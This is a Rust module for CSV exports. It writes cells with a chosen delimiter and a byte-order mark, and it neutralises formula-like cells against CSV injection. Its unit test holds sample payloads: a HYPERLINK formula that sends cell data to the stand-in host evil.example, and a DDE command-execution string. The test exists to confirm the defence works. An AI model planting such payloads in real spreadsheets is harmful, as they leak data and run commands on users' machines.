//! CSV downloads: UTF-8 with a byte-order mark (so spreadsheets read č, š, ž), the
//! `delimiter` every export takes, and cells that a spreadsheet never runs as a formula.

use serde::Deserialize;
use utoipa::{IntoParams, ToSchema};

/// The field separator of a CSV download.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Deserialize, ToSchema)]
#[serde(rename_all = "snake_case")]
pub enum Delimiter {
    /// `;`: what spreadsheets set to Slovenian (and most of Europe) expect.
    #[default]
    Semicolon,
    /// `,`
    Comma,
}

impl Delimiter {
    pub fn byte(self) -> u8 {
        match self {
            Delimiter::Semicolon => b';',
            Delimiter::Comma => b',',
        }
    }
}

/// `?delimiter=` of every CSV export.
#[derive(Debug, Clone, Copy, Deserialize, IntoParams)]
#[into_params(parameter_in = Query)]
pub struct CsvParams {
    /// `semicolon` (default, for spreadsheets set to Slovenian) or `comma`.
    #[param(inline)]
    pub delimiter: Option<Delimiter>,
}

impl CsvParams {
    pub fn delimiter(&self) -> Delimiter {
        self.delimiter.unwrap_or_default()
    }
}

/// A CSV writer into a buffer that already holds the byte-order mark; every cell it writes is
/// [neutralised](neutralise).
pub fn writer(delimiter: Delimiter) -> Writer {
    Writer(
        csv::WriterBuilder::new()
            .delimiter(delimiter.byte())
            .from_writer("\u{feff}".as_bytes().to_vec()),
    )
}

/// The one way exports write CSV.
pub struct Writer(csv::Writer<Vec<u8>>);

impl Writer {
    /// Write one record, each cell neutralised.
    pub fn write_record<I, T>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.0.write_record(
            record
                .into_iter()
                .map(|c| neutralise(c.as_ref()).into_owned()),
        )
    }

    /// The bytes written (the error: why the buffer could not be flushed).
    pub fn into_inner(self) -> Result<Vec<u8>, String> {
        self.0.into_inner().map_err(|e| e.to_string())
    }
}

/// A cell a spreadsheet would read as a formula (it starts with `=`, `+`, `-`, `@`, a tab or
/// a carriage return) gets a leading `'`, as OWASP recommends against CSV injection: the
/// spreadsheet shows the text and runs nothing.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_neutralised_with_each_prefix() {
        for bad in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
        ] {
            assert_eq!(neutralise(bad), format!("'{bad}"), "{bad:?}");
        }
        for fine in ["Maja Kovač", "2026-03-25", "412.80", "", "a=b", "'quoted"] {
            assert_eq!(neutralise(fine), fine);
        }
        let mut w = writer(Delimiter::Comma);
        w.write_record(["=1+1", "ok"]).unwrap();
        let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
        assert_eq!(text, "\u{feff}'=1+1,ok\n");
    }
}
